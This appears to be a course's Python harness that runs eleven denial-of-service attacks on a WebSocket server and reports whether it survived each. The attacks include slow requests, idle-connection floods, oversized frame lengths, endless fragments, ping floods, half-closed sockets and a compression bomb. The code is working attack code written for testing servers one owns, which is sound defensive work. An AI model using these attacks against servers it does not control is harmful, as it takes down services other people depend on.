"""Attacks a WebSocket server, and says for each attack whether the server survived it, and why.

    ./bazelw run //course/attack -- 8082               a server on this port of 127.0.0.1
    ./bazelw run //course/attack -- 8082 slow-request  one attack; --list prints their names

Attack only servers of your own. A server survives if it answers a good client within 5 seconds during and after the
attack, ends connections that only waste its time within --patience seconds, and its memory grows by at most --memory
megabytes in an attack. The memory is seen if the server is one process on this machine of the same user.
"""

import argparse
import base64
import concurrent.futures
import contextlib
import hashlib
import json
import os
import re
import socket
import struct
import sys
import time
import zlib

TEXT, BINARY, CLOSE, PING, PONG = 1, 2, 8, 9, 10
FIN, RSV1 = 0x80, 0x40
MASK = b"\x37\xfa\x21\x3d"
MB = 1 << 20
SOON = 5  # seconds, for what needs no wait: the answer to a good client, or to a header that breaks a limit


class Lost(Exception):
    """Why the server did not survive."""


def masked(payload):
    key = int.from_bytes((MASK * (len(payload) // 4 + 1))[: len(payload)], "big")
    return (int.from_bytes(payload, "big") ^ key).to_bytes(len(payload), "big")


def frame(opcode, payload=b"", bits=FIN, length=None):
    """A frame of a client; `length` is what it claims, if that is not true."""
    length = len(payload) if length is None else length
    if length < 126:
        head = struct.pack("!BB", bits | opcode, 0x80 | length)
    elif length < 1 << 16:
        head = struct.pack("!BBH", bits | opcode, 0x80 | 126, length)
    else:
        head = struct.pack("!BBQ", bits | opcode, 0x80 | 127, length)
    return head + MASK + masked(payload)


class Attacker:
    """One connection to the server."""

    def __init__(self, target, seconds=None):
        """`seconds`, by default the patience of the target, are the time of open() and read() together."""
        self.target = target
        self.sent = 0
        self.received = b""
        seconds = target.patience if seconds is None else seconds
        self.until = time.monotonic() + seconds
        self.sock = socket.create_connection(target.address, timeout=seconds)

    def close(self):
        self.sock.close()

    def abort(self):
        """Ends TCP by a reset."""
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.sock.close()

    def open(self, extension=None):
        """The opening handshake. Returns whether the server accepted the extension."""
        key = base64.b64encode(os.urandom(16)).decode()
        lines = [
            f"GET {self.target.path} HTTP/1.1",
            f"Host: {self.target.address[0]}:{self.target.address[1]}",
            "Upgrade: websocket",
            "Connection: Upgrade",
            f"Sec-WebSocket-Key: {key}",
            "Sec-WebSocket-Version: 13",
            *([f"Sec-WebSocket-Extensions: {extension}"] if extension else []),
        ]
        self.sock.sendall("\r\n".join([*lines, "", ""]).encode())
        while b"\r\n\r\n" not in self.received:
            if not self.read():
                raise Lost("the opening request of a good client has no answer")
        head, _, self.received = self.received.partition(b"\r\n\r\n")
        accept = base64.b64encode(hashlib.sha1(f"{key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11".encode()).digest())
        if not head.startswith(b"HTTP/1.1 101 ") or accept not in head:
            raise Lost(f"the opening request of a good client is refused: {head.splitlines()[0].decode()}")
        return b"permessage-deflate" in head

    def read(self):
        """Appends what arrives; false at the end of the stream, or when its time is over."""
        try:
            self.sock.settimeout(max(0.001, self.until - time.monotonic()))
            more = self.sock.recv(65536)
        except OSError:
            return False
        self.received += more
        return bool(more)

    def send(self, data):
        """Sends all of it; false if the server has ended the connection, or takes nothing for two seconds."""
        self.sock.settimeout(2)
        view = memoryview(data)
        try:
            while view:
                size = self.sock.send(view)
                view = view[size:]
                self.sent += size
        except OSError:
            return False
        finally:
            self.sock.settimeout(self.target.patience)
        return True

    def ended(self, patience, answered=lambda: False):
        """Whether the server ends the connection within this time, or answers. Bytes that it still sends are read."""
        until = time.monotonic() + patience
        try:
            while not answered():
                self.sock.settimeout(max(0, until - time.monotonic()))
                more = self.sock.recv(65536)
                if not more:
                    return True
                self.received += more
                if time.monotonic() > until:
                    return answered()
        except (TimeoutError, BlockingIOError):
            return False
        except OSError:
            return True
        return True

    def any_answer(self):
        """Whether a byte has been received since the handshake, if there was one."""
        return bool(self.received)

    def close_frame(self):
        """Whether a Close frame has been received, perhaps after other frames."""
        at = 0
        while at + 2 <= len(self.received):
            if self.received[at] & 15 == CLOSE:
                return True
            length, size = self.received[at + 1], 2
            if length >= 126:
                size = 4 if length == 126 else 10
                length = int.from_bytes(self.received[at + 2 : at + size], "big")
            at += size + length
        return False


class Target:
    def __init__(self, host, port, path, patience, memory):
        self.address = (host, port)
        self.path = path
        self.patience = patience
        self.memory = memory
        self.too_much = 2 * memory  # for a server that keeps all of it
        self.pid = pid_of(port) if host == "127.0.0.1" else None
        self.before = None

    def begin(self):
        """Begins an attack: its memory is counted from here."""
        if self.pid is not None:
            with contextlib.suppress(OSError), open(f"/proc/{self.pid}/clear_refs", "w") as file:
                file.write("5")  # the most memory so far is the memory now
        with contextlib.suppress(Lost):  # check() finds that the server has ended
            self.before = self.resident()

    def resident(self):
        """The most memory that the server had so far, in bytes; None if it is not seen."""
        if self.pid is None:
            return None
        try:
            with open(f"/proc/{self.pid}/status") as status:
                return int(re.search(r"VmHWM:\s+(\d+)", status.read())[1]) * 1024
        except (OSError, TypeError):
            raise Lost("the server has ended") from None

    def sockets(self):
        """The number of sockets that the server has open; None if it is not seen."""
        if self.pid is None:
            return None
        count = 0
        try:
            for fd in os.listdir(f"/proc/{self.pid}/fd"):
                with contextlib.suppress(OSError):
                    count += os.readlink(f"/proc/{self.pid}/fd/{fd}").startswith("socket:")
        except OSError:
            raise Lost("the server has ended") from None
        return count

    def check(self):
        """Fails unless a good client is served soon, and memory is within bounds."""
        try:
            with contextlib.closing(Attacker(self, SOON)) as good:
                good.open()
                good.sock.sendall(frame(PING, b"good"))
                while bytes([FIN | PONG, 4]) + b"good" not in good.received:
                    if not good.read():
                        raise Lost(f"the ping of a good client has no answer within {SOON} s")
        except OSError as error:
            raise Lost(f"a good client cannot connect: {error}") from None
        now = self.resident()
        if now is not None and self.before is not None and now - self.before > self.memory:
            raise Lost(f"its memory has grown by {(now - self.before) / MB:.0f} MB")

    @contextlib.contextmanager
    def attackers(self, count=1, opened=True):
        with contextlib.ExitStack() as stack:
            made = []
            for _ in range(count):
                try:
                    made.append(stack.enter_context(contextlib.closing(Attacker(self))))
                except OSError as error:
                    raise Lost(f"connection {len(made) + 1} fails: {error}") from None
                if opened:
                    made[-1].open()
            yield made

    def refused(self, attacker, size):
        """Why the server survived an attack that it does not take more of: it ends the connection, too."""
        if not attacker.ended(self.patience):
            raise Lost(f"it takes no more after {size}, and the connection is still open {self.patience:.0f} s later")
        return f"refused after at most {size}"

    def all_end(self, attackers, what, started):
        for done, attacker in enumerate(attackers):
            if not attacker.ended(max(0.01, started + self.patience - time.monotonic())):
                raise Lost(f"{len(attackers) - done} of {len(attackers)} {what} are still open after {self.patience:.0f} s")
        return f"all {len(attackers)} were ended within {time.monotonic() - started:.1f} s"


def pid_of(port):
    """The process that listens on this port of 127.0.0.1 or of all addresses; None if that is not seen."""
    inodes = set()
    # 127.0.0.1, and all addresses of IPv4 and IPv6, as these files write them.
    addresses = ("0100007F", "0" * 8, "0" * 32, "0000000000000000FFFF00000100007F")
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError), open(table) as lines:
            for line in list(lines)[1:]:
                words = line.split()
                address, _, number = words[1].rpartition(":")
                if words[3] == "0A" and address in addresses and int(number, 16) == port:
                    inodes.add(f"socket:[{words[9]}]")
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            for fd in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    if os.readlink(f"/proc/{pid}/fd/{fd}") in inodes:
                        return pid
    return None


# ---- The attacks. Each returns why the server survived. ----


def slow_request(target):
    """50 requests, a byte every tenth of a second, that never end"""
    with target.attackers(50, opened=False) as attackers:
        open_ones = attackers
        started = time.monotonic()
        for attacker in attackers:
            attacker.send(b"GET / HTTP/1.1\r\nHost: ")
        while open_ones and time.monotonic() - started < target.patience:
            target.check()
            open_ones = [one for one in open_ones if one.send(b"a") and not one.ended(0.002)]
        if open_ones:
            raise Lost(f"{len(open_ones)} of 50 are still open after {target.patience:.0f} s")
        return f"all 50 were ended within {time.monotonic() - started:.1f} s"


def half_open(target):
    """500 connections that send nothing"""
    started = time.monotonic()
    with target.attackers(500, opened=False) as attackers:
        target.check()
        return target.all_end(attackers, "connections without a request", started)


def endless_head(target):
    """a request with header fields without end"""
    with target.attackers(opened=False) as [attacker]:
        attacker.send(b"GET / HTTP/1.1\r\nHost: a\r\n")
        while attacker.send(b"X-Field: " + b"a" * 1000 + b"\r\n") and not attacker.ended(0.001, attacker.any_answer):
            if attacker.sent > 4 * MB:
                raise Lost("it has taken 4 MB of header fields")
        return target.refused(attacker, f"{attacker.sent / 1024:.0f} kB")


def huge_length(target):
    """headers that announce 2^62 bytes, and 2^64 - 1"""
    for length in (1 << 62, (1 << 64) - 1):
        with target.attackers() as [attacker]:
            attacker.send(frame(BINARY, length=length))
            if not attacker.ended(SOON, attacker.close_frame):
                raise Lost(f"after {SOON} s it still waits for {length} bytes")
            target.check()
    return "ended at the header"


def endless_message(target):
    """a message of fragments of 64 kB without end"""
    part = bytes(65536)
    with target.attackers() as [attacker]:
        attacker.send(frame(BINARY, part, bits=0))
        more = frame(0, part, bits=0)
        while attacker.send(more) and not attacker.ended(0, attacker.close_frame):
            if attacker.sent > target.too_much:
                raise Lost(f"it has taken a message of {target.too_much / MB:.0f} MB")
        target.check()
        return target.refused(attacker, f"{attacker.sent / MB:.1f} MB")


def flood(target, data, total, what, first=b""):
    """Sends data again and again, never reads, and checks the server all the time."""
    with target.attackers() as [attacker]:
        attacker.send(first)
        next_check = 0
        while attacker.sent < total:
            if not attacker.send(data):
                target.check()
                return f"it stopped reading, or ended the connection, after {attacker.sent / MB:.1f} MB"
            if attacker.sent >= next_check:
                target.check()
                next_check += total // 8
        target.check()
        return f"it took {total / MB:.0f} MB of {what} and stayed responsive"


def ping_flood(target):
    """pings of 125 bytes without end; the pongs are never read"""
    return flood(target, frame(PING, b"p" * 125) * 500, target.too_much, "pings")


def tiny_fragments(target):
    """a text in 700,000 fragments of no byte or one"""
    rest = frame(0, b"", bits=0) * 1000 + frame(0, b"a", bits=0)
    return flood(target, rest, 4 * MB, "tiny fragments", first=frame(TEXT, b"a", bits=0))


def never_reads(target):
    """messages of 64 kB, whose answers are never read"""
    return flood(target, frame(BINARY, bytes(65536)), target.too_much, "messages")


def never_closes(target):
    """50 clients that send a Close frame and never end TCP"""
    with target.attackers(50) as attackers:
        started = time.monotonic()
        for attacker in attackers:
            attacker.send(frame(CLOSE, b"\x03\xe8"))
        target.check()
        # ended() sees the end of the server's side only; then the other one must end, too: sending is refused.
        target.all_end(attackers, "closed connections", started)
        while attackers and time.monotonic() - started < target.patience:
            attackers = [one for one in attackers if one.send(b"a")]
            target.check()
            time.sleep(0.1)
        if attackers:
            raise Lost(f"{len(attackers)} of 50 are still half-open after {target.patience:.0f} s")
        return f"all 50 were ended within {time.monotonic() - started:.1f} s"


def resets(target):
    """300 connections that are reset in the middle of a request or a frame"""
    before = target.sockets()
    for i in range(300):
        with target.attackers(opened=i % 3 != 0) as [attacker]:
            attacker.send([b"GET / HT", frame(TEXT, b"Hello")[:7], frame(BINARY, bytes(100000))][i % 3])
            attacker.abort()
        if i % 50 == 0:
            target.check()
    if before is None:
        return "a good client is served (the sockets of the server are not seen)"
    until = time.monotonic() + target.patience
    while (more := target.sockets() - before) > 0:
        if time.monotonic() > until:
            raise Lost(f"{more} of 300 sockets are still open after {target.patience:.0f} s")
        time.sleep(0.05)
    return "all were closed"


def deflate_bomb(target):
    """a message that inflates to a thousand times its size, and hundreds of small ones"""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    # A full flush: each megabyte is inflated without the ones before it.
    megabyte = compressor.compress(bytes(MB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    bomb = megabyte * int(target.too_much / MB)
    large = len(bomb)
    with target.attackers(opened=False) as [attacker]:
        if not attacker.open("permessage-deflate"):
            return "it declines compression"
        attacker.send(frame(BINARY, bomb[:-4], bits=FIN | RSV1))
        target.check()
        if not attacker.ended(target.patience, attacker.any_answer):
            raise Lost("no answer to the message, and no end")
        target.check()
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = compressor.compress(bytes(MB // 2)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    small = frame(BINARY, bomb[:-4], bits=FIN | RSV1)
    with target.attackers(opened=False) as [attacker]:
        attacker.open("permessage-deflate; server_no_context_takeover")
        while attacker.sent < MB // 4 and attacker.send(small * 20):
            target.check()
        return f"its memory is within bounds after a message of {large / 1024:.0f} kB, and {attacker.sent / 1024:.0f} kB of small ones"


ATTACKS = [
    slow_request,
    half_open,
    endless_head,
    huge_length,
    endless_message,
    ping_flood,
    tiny_fragments,
    never_reads,
    never_closes,
    resets,
    deflate_bomb,
]


# These wait for the server, and take next to no memory: they run side by side.
WAITING = [slow_request, half_open, never_closes]


def name_of(attack):
    return attack.__name__.replace("_", "-")


def outcome(target, attack):
    """(name, survived, why)"""
    try:
        target.check()
        why, survived = attack(target), True
        target.check()
    except Lost as lost:
        why, survived = str(lost), False
    except OSError as error:
        why, survived = f"a connection failed: {error}", False
    return name_of(attack), survived, why


def run(target, attacks):
    """Runs attacks, prints a line for each, and returns them as (name, survived, why)."""
    results = []
    waiting = [attack for attack in attacks if attack in WAITING]
    for group in filter(None, [waiting, *([attack] for attack in attacks if attack not in WAITING)]):
        target.begin()
        with concurrent.futures.ThreadPoolExecutor(len(group)) as pool:
            for attack, result in zip(group, pool.map(lambda attack: outcome(target, attack), group)):
                name, survived, why = result
                results.append(result)
                print(f"{'survived' if survived else 'LOST    '}  {name:16} {attack.__doc__}", f"          {why}", sep="\n", flush=True)
    return results


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("port", nargs="?", type=int, help="default: a server of the course, which this starts")
    parser.add_argument("attacks", nargs="*", metavar="ATTACK", help="only these")
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--path", default="/")
    parser.add_argument("--patience", type=float, default=30, help="seconds (30)")
    parser.add_argument("--memory", type=float, default=256, help="megabytes (256)")
    parser.add_argument("--json", metavar="FILE", help="write the results")
    parser.add_argument("--list", action="store_true", help="print the attacks, and run none")
    arguments = parser.parse_args()
    if arguments.list:
        print(*(f"{name_of(attack):16} {attack.__doc__}" for attack in ATTACKS), sep="\n")
        return 0
    unknown = set(arguments.attacks) - {name_of(attack) for attack in ATTACKS}
    if unknown:
        parser.error(f"no attack is called {', '.join(sorted(unknown))}; --list prints all")
    attacks = [one for one in ATTACKS if not arguments.attacks or name_of(one) in arguments.attacks]
    server = None
    if arguments.port is None:
        from program import Server  # of //e2e

        server = Server("ATTACKED_SERVER", "--seconds=1")
    try:
        port = server.port if server else arguments.port
        target = Target(arguments.host, port, arguments.path, arguments.patience, arguments.memory * MB)
        if target.pid is None:
            print("The memory of the server is not seen from here.")
        results = run(target, attacks)
    finally:
        if server:
            server.end()
    if arguments.json:
        with open(arguments.json, "w") as file:
            json.dump([{"name": name, "survived": survived, "why": why} for name, survived, why in results], file)
    survived = sum(result[1] for result in results)
    print(f"\nsurvived {survived} of {len(results)} attacks")
    return 0 if survived == len(results) else 1


if __name__ == "__main__":
    sys.exit(main())
